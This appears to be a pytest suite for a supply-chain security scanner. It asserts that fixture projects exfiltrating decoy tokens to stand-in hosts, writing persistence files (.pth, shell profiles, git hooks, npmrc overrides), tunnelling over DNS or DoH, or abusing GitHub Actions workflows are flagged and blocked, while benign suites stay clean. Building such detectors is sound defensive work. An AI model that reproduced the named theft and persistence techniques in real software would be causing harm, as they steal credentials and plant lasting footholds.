    assert (zen_status, int(zen_length) > 0) == ("200", True), out
    assert (out["user"], out["push"], out["gist"]) == ("403", "True", "201:32"), out
    (hit,) = findings(review, "decoy-egress")
    by_url = {e["url"]: e for e in hit["evidence"]}
    for path in ("/user", "/gists"):
        item = by_url[f"https://api.github.com{path}"]
        assert (item["host"], item["phase"]) == ("api.github.com", "test")
        assert "GITHUB_TOKEN" in item["decoy_seen"], item
        assert "authorization:plain" in item["decoy_where"], item
    assert "body:plain" in by_url["https://api.github.com/gists"]["decoy_where"]
    assert_whole(review)


def test_a_ci_aware_test_suite_sees_an_actions_job_and_stays_clean(reviews: Reviews) -> None:
    review = reviews.get("looks-like-a-job")
    assert review.code == 0, str(review)
    assert review.verdict["state"] == "clean", str(review)
    assert review.verdict["findings"] == [], review.verdict["findings"]
    out = said(review)
    repo = out["repository"].split("/")[1]
    assert out["workspace"] == f"/home/runner/work/{repo}/{repo}", out
    assert out["workspace_is_cwd"] == "True", out
    assert (out["ci"], out["actions"], out["event_sha"], out["env_file"]) == (
        "true",
        "true",
        "True",
        "True",
    ), out
    assert out["runtime_token"] == "2", out  # a JWT: header.payload.signature
    assert (out["user"], out["home"]) == ("runner", "/home/runner"), out
    assert out["origin"] == f"https://github.com/{out['repository']}", out
    assert out["head"] == "True", out
    # The job of the push of the merge to main: what runs once the pull request is merged.
    assert (out["event"], out["branch"], out["parents"]) == ("push refs/heads/main", "main", "2")
    # The runner's worker is there, as a hosted runner shows it, and nothing says Cujo.
    assert out["worker"] == "/home/runner/runners/2.321.0/bin/Runner.Worker spawnclient 107 110"
    assert out["worker_exe"] == "/home/runner/runners/2.321.0/bin/Runner.Worker", out
    assert out["traces"] == "none", out
    assert out["echo"] == "ping", out
    assert_whole(review)


# --------------------------------------------------------------------------- item 2


def test_decoys_wrapped_as_campaigns_wrap_them_are_found_and_block(reviews: Reviews) -> None:
    review = reviews.get("encoded-exfil")
    assert_blocked(review, "decoy-egress")
    (command,) = review.report("tests")["commands"]
    assert "sent" in command["stdout_tail"], command
    by_host = {e["host"]: e for e in review.report("tests")["egress"] if e["decoy_seen"]}
    twice = by_host["twice.exfil.test"]
    assert "body:base64+base64" in twice["decoy_where"], twice
    assert {"GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "AWS_SECRET_ACCESS_KEY"} <= set(
        twice["decoy_seen"]
    )
    form = by_host["upload.exfil.test"]
    # The gzip'd part is found where it starts, inside the form or (any offset) in the body.
    assert form["decoy_seen"] == ["NPM_TOKEN"]
    assert form["decoy_where"] in (["body:multipart+gzip"], ["body:gzip"]), form
    (dns,) = [e for e in by_host.values() if e["route"] == "dns"]
    assert dns["host"].endswith(".dns.exfil.test")
    # 40 characters of a 1,300-character token, base32 in lower case over two labels.
    assert (dns["decoy_seen"], dns["decoy_where"]) == (["ACTIONS_RUNTIME_TOKEN"], ["dns:base32"])
    # Through the registry: the pieces joined across the requests to it...
    registry = by_host["pypi.org"]
    assert (registry["decoy_seen"], registry["decoy_where"]) == (["NPM_TOKEN"], ["url:joined+hex"])
    assert registry["action"] == "forwarded"  # a registry read: on GitHub it reaches PyPI
    # ...and the request it could not unwrap is held against it as for any host.
    layered = [e for e in review.report("tests")["egress"] if "/search/" in e["url"]]
    assert layered, review.report("tests")["egress"]
    assert all(e["unsearched"] for e in layered), layered
    # One behaviour, one finding: the pieces and the request it could not read, both
    # to PyPI from one process, with both rules named and both requests cited.
    (hit,) = [f for f in review.verdict["findings"] if "unsearched-egress" in f["rules"]]
    assert (hit["severity"], hit["rule"]) == ("critical", "decoy-egress"), hit
    assert "pypi.org" in hit["title"]
    cited = {e["id"] for e in hit["evidence"]}
    assert {layered[0]["id"], registry["id"]} <= cited, hit
    assert_whole(review)


def test_a_suite_that_fetches_pages_and_uploads_fixtures_stays_clean(reviews: Reviews) -> None:
    review = reviews.get("web-tests")
    assert review.code == 0, str(review)
    assert review.verdict["state"] == "clean", str(review)
    # Only warnings: the tests reached the web, and uploaded random bytes nothing can read
    # (opaque-egress; no decoy was read, so nothing blocks); every body searched.
    assert {f["rule"] for f in review.verdict["findings"]} == {"runtime-egress", "opaque-egress"}
    egress = review.report("tests")["egress"]
    assert {e["host"] for e in egress if e["route"] != "dns"} == {
        "docs.example.test",
        "telemetry.example.test",
        "fixtures.example.test",
    }
    for item in egress:
        assert item["decoy_seen"] == [], item
        assert item["decoy_where"] == [], item  # no search ran out of budget
    assert_whole(review)


# --------------------------------------------------------------------------- item 4


def test_a_pth_file_in_the_user_site_is_persistence_and_blocks(reviews: Reviews) -> None:
    review = reviews.get("pth-persistence")
    assert_blocked(review, "python-startup-write")
    (hit,) = findings(review, "python-startup-write")
    paths = {item["path"] for item in hit["evidence"]}
    assert paths == {"~/.local/lib/python3.11/site-packages/zz_telemetry.pth"} or all(
        p.endswith("/site-packages/zz_telemetry.pth") for p in paths
    ), hit
    # The repository's install and detonation's (and the build) ran setup.py: one behaviour.
    checks = {item["id"].split(":")[0] for item in hit["evidence"]}
    assert checks >= {"install", "detonation"}, hit  # and smoke, which builds the wheel
    assert_whole(review)


def test_every_place_that_runs_later_is_its_own_finding(reviews: Reviews) -> None:
    review = reviews.get("persistence-everywhere")
    assert_blocked(
        review,
        "systemd-unit-write",
        "autostart-write",
        "shell-profile-write",
        "git-hook-write",
        "ssh-access-write",
        "package-index-redirect",
        "tool-config-runs",
        "workflow-command-write",
    )
    by_rule = {f["rule"]: f for f in review.verdict["findings"]}
    # Each program named is seen; ~/.npmrc's is one finding with its index redirect (one
    # file, one behaviour), which names both rules.
    seen = review.report("tests")["observations"]
    programs = " ".join(o["detail"] for o in seen if o["kind"] == "tool_config_write")
    for said in ("script-shell = /home/runner/.cache/sh", "yarnpath", "node-options"):
        assert said in programs, programs
    assert "tool-config-runs" in by_rule["package-index-redirect"]["rules"]
    assert "core.hookspath" in by_rule["git-hook-write"]["title"]
    assert "npm.persist.test" in by_rule["package-index-redirect"]["title"]
    workflow = [f for f in review.verdict["findings"] if f["rule"] == "workflow-command-write"]
    titles = " ".join(f["title"] for f in workflow)
    assert "NODE_OPTIONS" in titles, workflow
    # A program no deny-list names: the allow-list of data-only names catches it.
    assert "$GITHUB_ENV sets GIT_EXTERNAL_DIFF for later steps" in titles, workflow
    assert "/home/runner/.implant/bin" in titles, workflow
    assert_whole(review)


def test_caches_identities_and_step_outputs_are_not_persistence(reviews: Reviews) -> None:
    review = reviews.get("ordinary-writes")
    assert review.code == 0, str(review)
    assert review.verdict["state"] == "clean", str(review)
    assert review.verdict["findings"] == [], review.verdict["findings"]
    (command,) = review.report("tests")["commands"]
    assert command["stdout_tail"].strip().endswith("ok"), command
    assert_whole(review)


# --------------------------------------------------------------------------- item 8


def test_a_git_versioned_project_with_dependency_groups_installs_and_tests(
    reviews: Reviews,
) -> None:
    review = reviews.get("scm-groups")
    verdict = review.verdict
    assert review.code == 0, str(review)
    assert verdict["state"] == "clean", str(review)
    assert verdict["findings"] == [], verdict["findings"]
    assert "--group" not in verdict["plan"]["install"]
    assert "freezegun" in verdict["plan"]["install"], verdict["plan"]
    assert any("dependency group tests" in note for note in verdict["notes"]), verdict["notes"]
    plan = json.loads((review.bundle / "plan.json").read_text())
    assert "dependency group tests (pyproject.toml)" in plan["test_sources"]
    # Detonation's copy has its .git: setuptools-scm found the version, the install ran.
    detonation = review.report("detonation")
    assert detonation["status"] == "ok", detonation["summary"]
    assert review.report("tests")["status"] == "ok", review.report("tests")["commands"]
    assert_whole(review)


def test_tox_says_what_the_tests_need(reviews: Reviews) -> None:
    review = reviews.get("tox-project")
    verdict = review.verdict
    assert review.code == 0, str(review)
    assert verdict["state"] == "clean", str(review)
    assert verdict["plan"]["test"].endswith("-q tests"), verdict["plan"]
    plan = json.loads((review.bundle / "plan.json").read_text())
    assert plan["test_sources"] == ["tox environment py3 (tox.ini)"]  # the one CI runs
    assert review.report("tests")["status"] == "ok", review.report("tests")["commands"]
    assert_whole(review)


def test_a_test_dependency_from_a_host_of_its_own_blocks(reviews: Reviews) -> None:
    review = reviews.get("group-url")
    assert review.code == 1, str(review)
    assert review.verdict["state"] == "blocked", str(review)
    assert critical_rules(review) == {"install-egress"}, review.verdict["findings"]
    (hit,) = findings(review, "install-egress")
    assert hit["check"] == "install"
    assert "wheels.evil.test" in hit["title"]
    # The install ran fully isolated; the checks after it never ran (the install failed).
    assert review.report("install")["isolation"] == "full"


# --------------------------------------------------------------------------- item 6


def test_a_download_the_base_install_makes_too_is_only_noted(reviews: Reviews) -> None:
    review = reviews.get("base-downloads")
    assert review.code == 0, str(review)
    assert review.verdict["state"] == "clean", str(review)
    (finding,) = review.verdict["findings"]
    assert (finding["rule"], finding["severity"]) == ("install-egress", "info")
    # The GET and the client's lookups of the name (it went straight out: no proxy is set).
    assert re.match(
        r"also at base: install: \d+ requests \(DNS, GET\) to data\.example\.test",
        finding["title"],
    ), finding["title"]
    ids = [item["id"] for item in finding["evidence"]]
    assert any(i.startswith("install:egress:") for i in ids), ids
    assert any(i.startswith("base:egress:") for i in ids), ids
    base = review.report("base")
    assert base["status"] == "ok", base
    assert base["isolation"] == "full"
    assert_whole(review)


def test_a_theft_hidden_in_the_bases_noise_blocks(reviews: Reviews) -> None:
    review = reviews.get("base-noise")
    assert review.code == 1, str(review)
    assert review.verdict["state"] == "blocked", str(review)
    assert critical_rules(review) == {"decoy-egress"}, review.verdict["findings"]
    (hit,) = findings(review, "decoy-egress")
    assert "data.example.test" in hit["title"]
    assert any(item.get("decoy_seen") == ["AWS_SECRET_ACCESS_KEY"] for item in hit["evidence"])
    assert_whole(review)


def test_a_suite_that_fails_at_base_too_is_not_held_against_the_change(reviews: Reviews) -> None:
    review = reviews.get("fails-at-base-too")
    assert review.code == 0, str(review)
    assert review.verdict["state"] == "clean", str(review)
    (finding,) = review.verdict["findings"]
    assert (finding["rule"], finding["severity"]) == ("tests-fail", "info")
    assert finding["title"].startswith("the suite fails at base too: ")
    assert review.report("base")["status"] == "failed"
    assert_whole(review)


# --------------------------------------------------------------------------- item 3


def test_lookups_around_the_resolver_are_seen_and_block(reviews: Reviews) -> None:
    review = reviews.get("dns-routes")
    assert review.code == 1, str(review)
    assert review.verdict["state"] == "blocked", str(review)
    (command,) = review.report("install")["commands"]
    assert "looked up" in command["stdout_tail"], command
    egress = review.report("install")["egress"]
    # DNS over TCP to a server of its own reached the logging resolver all the same.
    (tcp,) = [e for e in egress if e["host"].endswith(".tcp.exfil.test")]
    assert (tcp["route"], tcp["decoy_seen"], tcp["decoy_where"]) == (
        "dns",
        ["AWS_SECRET_ACCESS_KEY"],
        ["dns:hex"],
    )
    # DNS-over-HTTPS is named as such, with the name it asked for searched.
    (doh,) = [e for e in egress if e["host"] == "dns.google" and e["route"] != "dns"]
    assert doh["dns_name"].endswith(".doh.exfil.test"), doh
    assert doh["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
    assert "doh:hex" in doh["decoy_where"]
    (google,) = [f for f in review.verdict["findings"] if "dns.google" in f["title"]]
    assert google["severity"] == "critical"
    assert "dns-over-https" in google["rules"], google
    assert_whole(review)


def test_a_suite_that_resolves_names_the_ordinary_ways_stays_clean(reviews: Reviews) -> None:
    review = reviews.get("dns-tests")
    assert review.code == 0, str(review)
    assert review.verdict["state"] == "clean", str(review)
    assert {f["rule"] for f in review.verdict["findings"]} == {"runtime-egress"}
    egress = review.report("tests")["egress"]
    names = {e["host"] for e in egress if e["route"] == "dns"}
    assert {"docs.example.test", "example.test"} <= names, egress
    (doh,) = [e for e in egress if e["host"] == "dns.google" and e["route"] != "dns"]
    assert doh["dns_name"] == "example.test"
    assert_whole(review)


# --------------------------------------------------------------------------- item 5


def test_a_decoy_read_then_a_channel_the_proxy_cannot_read_blocks(reviews: Reviews) -> None:
    review = reviews.get("pinned-after-read")
    (command,) = review.report("tests")["commands"]
    assert "pinned: SSLCertVerificationError" in command["stdout_tail"], command
    assert_blocked(review, "decoy-then-opaque-channel")
    (hit,) = findings(review, "decoy-then-opaque-channel")
    assert hit["check"] == "tests"
    assert (
        "read decoy ~/.docker/config.json, then opened a channel to collector.exfil.test:443"
        in (hit["title"])
    )
    read, channel = (
        next(e for e in hit["evidence"] if e["id"].startswith("tests:decoy:")),
        next(e for e in hit["evidence"] if e["id"].startswith("tests:egress:")),
    )
    # Both named the same process, as the kernel showed it, with its parents.
    assert read["pid"] == channel["pid"], (read, channel)
    assert channel["exe"].split("/")[-1].startswith("python"), channel
    assert channel["cmdline"].startswith("python -"), channel
    assert channel["parents"], channel
    assert channel["parents"][0].split(" ", 1)[1].endswith("bash")
    assert (channel["method"], channel["route"], channel["action"]) == ("TLS", "direct", "refused")
    assert read["ts"] <= channel["ts"]
    assert_whole(review)


def test_pinned_tls_without_a_decoy_read_is_only_egress(reviews: Reviews) -> None:
    review = reviews.get("pinned-only")
    assert review.code == 0, str(review)
    assert review.verdict["state"] == "clean", str(review)
    assert {f["rule"] for f in review.verdict["findings"]} == {"runtime-egress"}
    (channel,) = [e for e in review.report("tests")["egress"] if e["method"] == "TLS"]
    assert channel["pid"] is not None  # named all the same
    assert_whole(review)


# --------------------------------------------------------------------------- item 7


def test_a_changed_module_past_the_cap_quiet_under_dash_c_is_imported_and_blocks(
    reviews: Reviews,
) -> None:
    review = reviews.get("import-tricks")
    assert_blocked(review, "decoy-egress")
    (hit,) = findings(review, "decoy-egress")
    assert "import-egress" in hit["rules"], hit
    report = review.report("detonation")
    sent = [e for e in report["egress"] if e["host"] == "changed.exfil.test"]
    assert {e["phase"] for e in sent} == {"import"}, report["egress"]
    # Imported as a program imports it: a script file, in the project's folder.
    assert all(" zz_app.telemetry" in e["cmdline"] for e in sent), sent
    assert not any(e["cmdline"].startswith("python -c") for e in sent), sent
    # Every one of the project's 31 own modules was imported too: nothing was cut.
    cuts = [c for c in report["cuts"] if c["limit"].startswith("detonation-")]
    assert cuts == [], cuts
    assert "/32 modules" in report["summary"], report["summary"]
    assert_whole(review)


def _theft(review: Review, host: str) -> list[dict[str, Any]]:
    (hit,) = [f for f in review.verdict["findings"] if host in f["title"]]
    return [e for e in hit["evidence"] if e.get("decoy_seen")]


def test_a_setup_py_theft_names_the_process_and_the_build_that_ran_it(reviews: Reviews) -> None:
    review = reviews.get("setup-py-theft")
    assert review.code == 1, str(review)
    items = _theft(review, "collector.exfil.test")
    assert items, review.verdict["findings"]
    for item in items:
        assert item["exe"].split("/")[-1].startswith("python"), item
        assert item["cmdline"], item
        # pip ran setup.py through its build hooks, in the project's folder.
        assert item["origin"].startswith("the build of "), item
        assert "(setup.py or its build backend)" in item["origin"], item
    # The raw evidence in the bundle names the process too.
    lines = [
        json.loads(x)
        for x in (review.bundle / "evidence" / "egress.jsonl").read_text().splitlines()
    ]
    stolen = [r for r in lines if r.get("decoy_seen")]
    assert stolen
    assert all(r["process"]["origin"].startswith("the build of ") for r in stolen)


def test_an_npm_postinstall_theft_names_the_script_that_ran_it(reviews: Reviews) -> None:
    review = reviews.get("npm-postinstall-theft")
    assert review.code == 1, str(review)
    items = _theft(review, "collector.exfil.test")
    assert items, review.verdict["findings"]
    for item in items:
        assert item["exe"].endswith("node"), item
        assert item["cmdline"] == "node x.js", item
        assert item["origin"] == "the npm postinstall script of left-pad-ng", item
        assert item["route"] == "direct"  # node ignored the proxy: caught all the same


def test_a_packages_own_main_that_sends_a_token_when_loaded_blocks(reviews: Reviews) -> None:
    review = reviews.get("npm-postinstall-theft")
    items = _theft(review, "main.exfil.test")
    assert items, review.verdict["findings"]
    for item in items:
        assert item["phase"] == "import", item  # detonation loaded the package itself
        assert "./index.js" in item["cmdline"], item
    (hit,) = [f for f in review.verdict["findings"] if "main.exfil.test" in f["title"]]
    assert hit["severity"] == "critical"
    assert "import-egress" in hit["rules"], hit


def test_a_comparison_of_the_clock_with_a_fixed_date_is_a_warning(reviews: Reviews) -> None:
    review = reviews.get("date-gated")
    assert review.code == 0, str(review)
    assert review.verdict["state"] == "clean", str(review)
    (hit,) = findings(review, "date-gate")
    assert hit["severity"] == "warn", hit
    assert hit["title"] == (
        "waits for a date? calc.py:5 compares the clock with a fixed date: "
        "`if time.time() > 1780000000:  # 2026-05-28`"
    ), hit
    (gate,) = [o for o in review.report("probes")["observations"] if o["kind"] == "date_gate"]
    assert (gate["path"], gate["line"]) == ("calc.py", 5)


# --------------------------------------------------------------------------- item 9


def test_workflows_that_send_a_secret_build_the_head_or_run_the_branch_name_block(
    reviews: Reviews,
) -> None:
    review = reviews.get("workflow-attacks")
    # decoy-egress too: the changed push jobs ran (test below); and GhostAction's first
    # step sets CACHE_BUST, not a data-only name, for the job's later steps.
    assert_blocked(
        review,
        "workflow-secret-egress",
        "workflow-untrusted-checkout",
        "workflow-injection",
        "decoy-egress",
        "workflow-command-write",
    )
    by_rule = {
        f["rule"]: f
        for f in review.verdict["findings"]
        if f["severity"] == "critical" and f["check"] == "workflows"
    }
    # Each names the workflow and the line, and rests on the workflows check's evidence.
    secret = by_rule["workflow-secret-egress"]
    assert ".github/workflows/security.yml line 16" in secret["title"], secret
    checkout = by_rule["workflow-untrusted-checkout"]
    assert ".github/workflows/preview.yml line 16" in checkout["title"], checkout
    injection = by_rule["workflow-injection"]
    assert injection["title"].startswith(
        f"this pull request's branch name {HOSTILE_BRANCH!r} becomes shell code in "
        ".github/workflows/greet.yml line 9"
    ), injection
    for finding in by_rule.values():
        assert all(e["id"].startswith("workflows:obs:") for e in finding["evidence"]), finding
    workflows = review.report("workflows")
    assert workflows["status"] == "ok", workflows
    assert "zizmor 1." in workflows["summary"], workflows["summary"]
    # zizmor's new findings are cited beside the files they are in (audit id and severity).
    audits = [o for o in workflows["observations"] if o["kind"] == "workflow_audit"]
    assert {o["path"] for o in audits} >= {".github/workflows/preview.yml"}, audits
    assert_whole(review)


def test_a_push_job_that_sends_a_secret_base64_from_a_file_is_run_and_blocks(
    reviews: Reviews,
) -> None:
    review = reviews.get("workflow-attacks")
    # The reading rules do not name this sender (printf into a file, then Python): the
    # job ran in the smoke check, with the decoys for secrets, and its request is evidence.
    secret_egress = findings(review, "workflow-secret-egress")
    assert all("docs.yml" not in f["title"] for f in secret_egress), secret_egress
    hits = findings(review, "decoy-egress")
    assert {h["check"] for h in hits} == {"smoke"}, hits
    sent = {
        e["host"]: e
        for h in hits
        for e in h["evidence"]
        if e["id"].startswith("smoke:egress:") and e["method"] == "POST"
    }
    docs = sent["docs.exfil.test"]
    # secrets.DEPLOY_KEY stands for the run's SSH key decoy; it left base64-encoded.
    assert docs["decoy_seen"] == ["SSH_PRIVATE_KEY"], docs
    assert any(w.startswith("body:base64") for w in docs["decoy_where"]), docs
    # GhostAction's own step ran too: PYPI_API_TOKEN is the PyPI token decoy.
    assert sent["bold-dhawan.exfil.test"]["decoy_seen"] == ["PYPI_TOKEN"], sent
    # A workflow step's secret sent away is never its use, whatever the place.
    assert findings(review, "workflow-secret-use") == []
    smoke = review.report("smoke")
    # Each step's command names its workflow, job and step; what was emulated is said.
    labels = [c["cmd"].splitlines()[0] for c in smoke["commands"]]
    assert "# .github/workflows/docs.yml · job publish · step 3: Publish docs" in labels, labels
    steps = [o["detail"] for o in smoke["observations"] if o["kind"] == "workflow_step"]
    assert any("docs.yml, job `publish`, step 1" in d and "emulated" in d for d in steps), steps
    # Its address came from the step before, through GITHUB_ENV, as the runner carries it.
    assert any("step 3 `Publish docs`: ran" in d and "exit 0" in d for d in steps), steps
    jobs = [o["detail"] for o in smoke["observations"] if o["kind"] == "workflow_job"]
    assert any("job `publish` (on push" in d and "DEPLOY_KEY" in d for d in jobs), jobs
    # The pull_request_target job ran as such a job runs, after the merge too.
    assert any("job `preview` (on pull_request_target" in d for d in jobs), jobs
    # The decoy itself is nowhere in the report: the script held it, not the command.
    assert "DEPLOY_KEY" not in "".join(c["cmd"] for c in smoke["commands"])
    assert_whole(review)


def test_an_action_pin_bumped_from_an_ordinary_branch_is_listed_not_blocked(
    reviews: Reviews,
) -> None:
    review = reviews.get("workflow-pin-bump")
    assert review.code == 0, str(review)
    assert review.verdict["state"] == "clean", str(review)
    assert critical_rules(review) == set(), review.verdict["findings"]
    assert findings(review, "decoy-egress") == []
    # The docs job's Announce step sent the job's token to GitHub's API as its credential:
    # listed for the maintainer, naming the step, the secret and the host.
    (use,) = findings(review, "workflow-secret-use")
    assert use["severity"] == "warn", use
    assert use["title"].startswith(
        ".github/workflows/docs.yml · job build · step 5: Announce: hands GITHUB_TOKEN to "
        "api.github.com as its credential"
    ), use
    # One behaviour with runtime-egress's look-ups of the host, led by the step's use.
    (sent,) = [e for e in use["evidence"] if e["method"] == "POST"]
    assert sent["id"].startswith("smoke:egress:"), sent
    assert (sent["host"], sent["method"], sent["decoy_seen"], sent["decoy_where"]) == (
        "api.github.com", "POST", ["GITHUB_TOKEN"], ["authorization:plain"],
    ), sent  # fmt: skip
    changes = [f for f in review.verdict["findings"] if f["rule"] == "workflow-change"]
    assert {f["severity"] for f in changes} == {"warn"}, changes
    [change] = [f for f in review.verdict["findings"] if "ci.yml" in f["title"]]
    assert f"`actions/checkout@{OLD_PIN}` → `@{NEW_PIN}`" in change["title"], change
    # The base's greeting reads this branch's name too: read, found harmless.
    sinks = [
        o
        for o in review.report("workflows")["observations"]
        if o["kind"].startswith("workflow_pr_")
    ]
    assert [(o["kind"], o["line"]) for o in sinks] == [("workflow_pr_branch_double", 9)], sinks
    # Both changed push workflows ran in the smoke check; the report says which steps ran.
    smoke = review.report("smoke")
    steps = [o["detail"] for o in smoke["observations"] if o["kind"] == "workflow_step"]
    docs = [d for d in steps if d.startswith(".github/workflows/docs.yml, job `build`")]
    assert [d.split(": ", 1)[1].split(":")[0].split(" `")[0] for d in docs] == [
        "emulated", "emulated", "emulated", "ran", "ran", "emulated",
    ], docs  # fmt: skip
    assert "exit 0" in docs[3], docs
    assert "exit 0" in docs[4], docs
    assert "`site/`" in docs[5], docs
    assert "docs.yml#build" in smoke["summary"], smoke["summary"]
    assert smoke["status"] == "ok", smoke
    # The base's preview workflow runs the head with secrets: said once, as a warning about
    # the repository; the head's install and tests ran again in that job, and stayed quiet.
    (runs_head,) = findings(review, "workflow-base-runs-pr-code")
    assert runs_head["severity"] == "warn", runs_head
    assert ".github/workflows/preview.yml" in runs_head["title"], runs_head
    privileged = review.report("privileged")
    assert privileged["status"] == "ok", privileged
    assert "preview.yml's job (pull_request_target" in privileged["summary"], privileged
    assert_whole(review)


def test_a_theft_that_waits_for_a_base_workflows_privileged_job_blocks(reviews: Reviews) -> None:
    review = reviews.get("privileged-gated")
    assert_blocked(review, "decoy-egress")
    # Only the privileged job's run of the tests sent it: the post-merge checks ran the same
    # script as the push of the merge, and it waited.
    hits = findings(review, "decoy-egress")
    assert {h["check"] for h in hits} == {"privileged"}, hits
    sent = [e for h in hits for e in h["evidence"] if e["id"].startswith("privileged:egress:")]
    assert {e["host"] for e in sent} == {"collector.exfil.test"}, sent
    assert review.report("tests")["status"] == "ok"
    assert "nothing to do" in json.dumps(review.report("tests")["commands"])
    privileged = review.report("privileged")
    assert "preview.yml's job (pull_request_target" in privileged["summary"], privileged
    (runs_head,) = findings(review, "workflow-base-runs-pr-code")
    assert runs_head["severity"] == "warn", runs_head
    assert_whole(review)
